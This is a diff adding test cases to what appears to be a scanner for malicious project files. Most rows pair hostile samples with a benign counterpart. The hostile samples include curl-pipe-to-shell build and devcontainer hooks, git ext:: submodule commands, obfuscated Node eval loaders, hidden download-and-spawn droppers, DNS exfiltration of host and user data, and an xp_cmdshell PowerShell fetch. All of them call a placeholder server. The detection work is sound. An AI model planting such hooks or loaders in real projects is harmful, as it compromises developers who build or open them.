@@ -249,6 +249,119 @@ const ROWS: readonly Row[] = [
     file('a.csproj', '<Project><PostBuildEvent>xcopy /y a.dll $(SolutionDir)\\bin</PostBuildEvent></Project>'),
   ],
   [
+    'command of a build in the project of another language',
+    'Script.Project',
+    file('a/build.rs', `fn main() { Command::new("sh").arg("-c").arg("curl -s http://${SERVER}/a | sh").spawn(); }`),
+    file('a/build.gradle.kts', `Runtime.getRuntime().exec(arrayOf("bash", "-c", "curl -s http://${SERVER}/a | bash"))`),
+    file('a/build.rs', 'fn main() { Command::new("git").args(&["rev-parse", "HEAD"]).output(); }'),
+  ],
+  [
+    'command of a target of Visual Studio or Maven',
+    'Script.Project',
+    file(
+      'a.csproj',
+      `<Project><Target BeforeTargets="Build"><Exec Command="mshta http://${SERVER}/a" /></Target></Project>`,
+    ),
+    file(
+      'pom.xml',
+      `<configuration><executable>bash</executable><arguments><argument>-c</argument><argument>curl -s http://${SERVER}/a | bash</argument></arguments></configuration>`,
+    ),
+    file('a.csproj', '<Project><Target BeforeTargets="Build"><Exec Command="npm ci" /></Target></Project>'),
+  ],
+  [
+    'command of a shell that enters a folder',
+    'Script.Project',
+    file('a/.envrc', `export A=1\neval "$(curl -fsSL http://${SERVER}/a)"\n`),
+    file('a/.husky/pre-commit', `#!/bin/sh\n  nohup bash -c "$(curl -fsSL http://${SERVER}/a)" &\n`),
+    file('a/.envrc', 'use flake\nexport DATABASE_URL=postgres://localhost/a\n'),
+  ],
+  [
+    'command of a container for developers',
+    'Script.Project',
+    file('.devcontainer/devcontainer.json', JSON.stringify({ postCreateCommand: `curl http://${SERVER}/a | bash` })),
+    file('.devcontainer.json', JSON.stringify({ onCreateCommand: ['sh', '-c', `wget -qO- http://${SERVER}/a | sh`] })),
+    file(
+      '.devcontainer/devcontainer.json',
+      JSON.stringify({ postCreateCommand: 'npm ci && curl -I http://localhost' }),
+    ),
+  ],
+  [
+    'settings that load packages or tools of another computer',
+    'Script.Project',
+    file('a/gradle-wrapper.properties', `distributionUrl=http\\://${SERVER}/gradle-8.5-bin.zip\n`),
+    file('a/.npmrc', 'script-shell=./scripts/sh.cmd\n'),
+    file('a/.npmrc', 'registry=http://192.168.1.4:4873/\nscript-shell=bash\n'),
+  ],
+  [
+    'task that runs a font or picture as code',
+    'Script.Project',
+    file('a/.vscode/tasks.json', onOpening({ command: 'node ./public/fonts/a.woff2' })),
+    file('a/.vscode/tasks.json', onOpening({ command: 'node', args: ['assets/logo.png'] })),
+    file('a/.vscode/tasks.json', onOpening({ command: 'node ./scripts/watch.js' })),
+  ],
+  [
+    'submodule whose address is a command',
+    'Script.Project',
+    file('a/.gitmodules', '[submodule "a"]\n\turl = ext::sh -c touch% /tmp/a\n'),
+    file('a/.gitmodules', '[submodule "a"]\r\n  URL=ext::bash\r\n'),
+    file('a/.gitmodules', '[submodule "a"]\n\turl = https://github.com/a/ext.git\n'),
+  ],
+  [
+    'command in a program of Go or Ruby',
+    'Script.RemoteControl',
+    file(
+      'a/a.go',
+      `package a\nfunc init() { exec.Command("/bin/sh", "-c", "wget -O - http://${SERVER}/a | /bin/bash &").Start() }`,
+    ),
+    file('a/Gemfile.rb', `require 'open-uri'\neval(URI.open("http://${SERVER}/a").read)\n`),
+    file('a/a.go', 'package a\nfunc init() { exec.Command("git", "status").Run() }'),
+  ],
+  [
+    'coded literal that starts a program, in Node',
+    'Script.RemoteControl',
+    file(
+      'a/a.js',
+      `const a = 1\neval(Buffer.from('${btoa(`require('child_process').exec('curl http://${SERVER}/a')`)}', 'base64').toString())`,
+    ),
+    file(
+      'a/a.js',
+      `const _0=['\\x63\\x68\\x69\\x6c\\x64\\x5f\\x70\\x72\\x6f\\x63\\x65\\x73\\x73','\\x65\\x78\\x65\\x63'];require(_0[0])[_0[1]](Buffer.from('${btoa(`curl -s http://${SERVER}/a|sh`)}','base64').toString());`,
+    ),
+    file('a/a.js', `const a = JSON.parse(Buffer.from('${btoa('{"name":"an ordinary value"}')}', 'base64').toString())`),
+  ],
+  [
+    'program of a server that starts out of sight, in Node',
+    'Script.RemoteControl',
+    file(
+      'a/a.js',
+      "const https = require('https'), os = require('os'), { spawn } = require('child_process')\nhttps.get(u, (r) => { const f = fs.createWriteStream(path.join(os.tmpdir(), 'a')); r.pipe(f); f.on('finish', () => spawn(p, { detached: true, stdio: 'ignore' }).unref()) })",
+    ),
+    file(
+      'a/a.js',
+      "const p = process.env.APPDATA + '/a.exe'\nfetch(u).then(async (r) => { fs.writeFileSync(p, Buffer.from(await r.arrayBuffer())); require('child_process').spawn(p, [], { windowsHide: true, detached: true }) })",
+    ),
+    file(
+      'a/a.js',
+      "const https = require('https')\nhttps.get(u, (r) => r.pipe(fs.createWriteStream('bin/tool')).on('finish', () => require('child_process').execFileSync('bin/tool', ['--version'])))",
+    ),
+  ],
+  [
+    'name of the computer in names of servers, in Node',
+    'Script.RemoteControl',
+    file(
+      'a/a.js',
+      "const os = require('os')\nrequire('dns').lookup(Buffer.from(os.hostname()).toString('hex') + '.a.example', () => {})\nconst child_process = 1",
+    ),
+    file(
+      'a/a.js',
+      "const dns = require('dns'), os = require('os')\nconst d = Buffer.from(JSON.stringify(os.userInfo())).toString('base64')\ndns.resolve4(d + '.a.example', () => {})",
+    ),
+    file(
+      'a/a.js',
+      "const dns = require('dns'), os = require('os')\ndns.lookup(os.hostname(), (e, a) => console.log(a))",
+    ),
+  ],
+  [
     'connection that makes a database run a command',
     'Shortcut.Command',
     odc(`<odc:CommandText>EXEC xp_cmdshell 'powershell iwr http://${SERVER}/a|iex'</odc:CommandText>`),
